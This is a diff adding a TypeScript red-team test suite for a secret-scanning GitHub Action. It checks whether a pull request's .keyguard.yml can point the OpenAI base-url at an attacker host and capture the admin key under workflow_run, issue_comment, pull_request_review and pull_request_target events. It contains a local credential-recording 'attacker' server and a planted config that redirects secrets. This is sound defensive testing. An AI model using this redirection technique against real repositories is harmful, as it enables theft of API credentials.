@@ -1,0 +1,170 @@
+/**
+ * Red-team review of issue 10: can a pull request get the OpenAI admin key sent to its own host?
+ * `auto` maps every event it does not list to sweep (rotation on), and sweep reads .keyguard.yml from
+ * the checkout. Privileged events that carry a pull request (a workflow_run after a fork's PR, an
+ * issue_comment ChatOps "/rescan" on a PR, a pull_request_review) are commonly run on a checkout of
+ * the PR head, so the PR's `providers.openai.base-url` decides where the admin key goes. The attacker
+ * needs no key of ours: its server answers "live" to any key-shaped string it planted.
+ * Each test asserts the SAFE outcome; `it.failing` marks a hole found.
+ */
+import { execFileSync } from 'node:child_process';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo, Socket } from 'node:net';
+import type { GitHubEmulator } from '../emulators/github.js';
+import { KeyGen } from '../helpers/keygen.js';
+import { TestRepo } from './harness.js';
+import { runKeyguard, startGitHub } from './helpers/world.js';
+
+const gen = new KeyGen(9999);
+
+interface Attacker {
+  url: string;
+  auths: string[];
+  stop: () => Promise<void>;
+}
+
+/** The attacker's "OpenAI": every key is live, every admin call is recorded and refused. */
+async function attackerHost(): Promise<Attacker> {
+  const auths: string[] = [];
+  const sockets = new Set<Socket>();
+  const server: Server = createServer((req, res) => {
+    auths.push(String(req.headers.authorization ?? ''));
+    req.resume();
+    req.on('end', () => {
+      res.writeHead(req.url?.startsWith('/v1/models') ? 200 : 404, { 'content-type': 'application/json' });
+      res.end(
+        req.url?.startsWith('/v1/models')
+          ? '{"object":"list","data":[{"id":"gpt-4o","object":"model"}]}'
+          : '{"error":{"message":"not found","type":"invalid_request_error"}}',
+      );
+    });
+  });
+  server.on('connection', (s) => {
+    sockets.add(s);
+    s.on('close', () => sockets.delete(s));
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    auths,
+    stop: () =>
+      new Promise<void>((r) => {
+        for (const s of sockets) s.destroy();
+        server.close(() => r());
+      }),
+  };
+}
+
+let github: GitHubEmulator;
+let attacker: Attacker;
+let repo: TestRepo | undefined;
+beforeEach(async () => {
+  github = await startGitHub();
+  attacker = await attackerHost();
+});
+afterEach(async () => {
+  repo?.cleanup();
+  repo = undefined;
+  await Promise.all([github.stop(), attacker.stop()]);
+});
+
+/** The default branch, then the PR head checked out (as `actions/checkout` with the PR's ref does). */
+function prHeadCheckout(): { base: string; head: string } {
+  const r = new TestRepo('kg-exfil-');
+  repo = r;
+  const base = r.commit('init', { 'README.md': '# app\n' });
+  execFileSync('git', ['clone', '-q', '--bare', r.dir, `${r.dir}-origin.git`]);
+  r.git('remote', 'add', 'origin', `${r.dir}-origin.git`);
+  r.git('checkout', '-q', '-b', 'pr-head');
+  const head = r.commit('innocent change', {
+    'notes.txt': `OPENAI_API_KEY=${gen.openaiProject()}\n`,
+    '.keyguard.yml': `providers:\n  openai:\n    base-url: ${attacker.url}/v1\n`,
+  });
+  return { base, head };
+}
+
+const pr = (base: string, head: string, fork: boolean) => ({
+  number: 7,
+  commits: 1,
+  base: { sha: base, ref: 'main', repo: { full_name: 'acme/app', fork: false } },
+  head: {
+    sha: head,
+    ref: 'feature',
+    repo: { full_name: fork ? 'mallory/app' : 'acme/app', fork },
+  },
+});
+
+const EVENTS: [string, (base: string, head: string) => Record<string, unknown>][] = [
+  [
+    'workflow_run after a fork’s pull_request',
+    (base, head) => ({
+      action: 'completed',
+      workflow_run: {
+        event: 'pull_request',
+        head_sha: head,
+        head_branch: 'feature',
+        head_repository: { full_name: 'mallory/app', fork: true },
+        repository: { full_name: 'acme/app' },
+        pull_requests: [{ number: 7, head: { sha: head }, base: { sha: base } }],
+      },
+      repository: { full_name: 'acme/app' },
+    }),
+  ],
+  [
+    'issue_comment "/rescan" on a fork’s pull request',
+    (_base, _head) => ({
+      action: 'created',
+      issue: { number: 7, pull_request: { url: 'http://127.0.0.1:9/repos/acme/app/pulls/7' } },
+      comment: { body: '/rescan', user: { login: 'mallory' } },
+      repository: { full_name: 'acme/app' },
+    }),
+  ],
+  [
+    'pull_request_review on a same-repository pull request',
+    (base, head) => ({
+      action: 'submitted',
+      review: { state: 'commented', user: { login: 'mallory' } },
+      pull_request: pr(base, head, false),
+      repository: { full_name: 'acme/app' },
+    }),
+  ],
+];
+
+const eventName = (label: string) => label.split(' ')[0]!;
+
+describe('red team: privileged events on a PR-head checkout', () => {
+  it.failing.each(EVENTS)(
+    'HOLE: %s never sends the admin key to the host the PR’s .keyguard.yml names',
+    async (label, payload) => {
+      const { base, head } = prHeadCheckout();
+      const admin = gen.openaiAdmin();
+      await runKeyguard({
+        repo: repo!,
+        github,
+        eventName: eventName(label),
+        payload: payload(base, head),
+        inputs: { 'openai-admin-key': admin },
+      });
+      expect(attacker.auths.filter((a) => a.includes(admin))).toEqual([]);
+    },
+    120_000,
+  );
+
+  it('pull_request_target on the same PR-head checkout never sends the admin key there (the documented case)', async () => {
+    const { base, head } = prHeadCheckout();
+    const admin = gen.openaiAdmin();
+    await runKeyguard({
+      repo: repo!,
+      github,
+      eventName: 'pull_request_target',
+      payload: {
+        action: 'synchronize',
+        number: 7,
+        pull_request: pr(base, head, true),
+        repository: { full_name: 'acme/app' },
+      },
+      inputs: { 'openai-admin-key': admin },
+    });
+    expect(attacker.auths.filter((a) => a.includes(admin))).toEqual([]);
+  }, 120_000);
+});
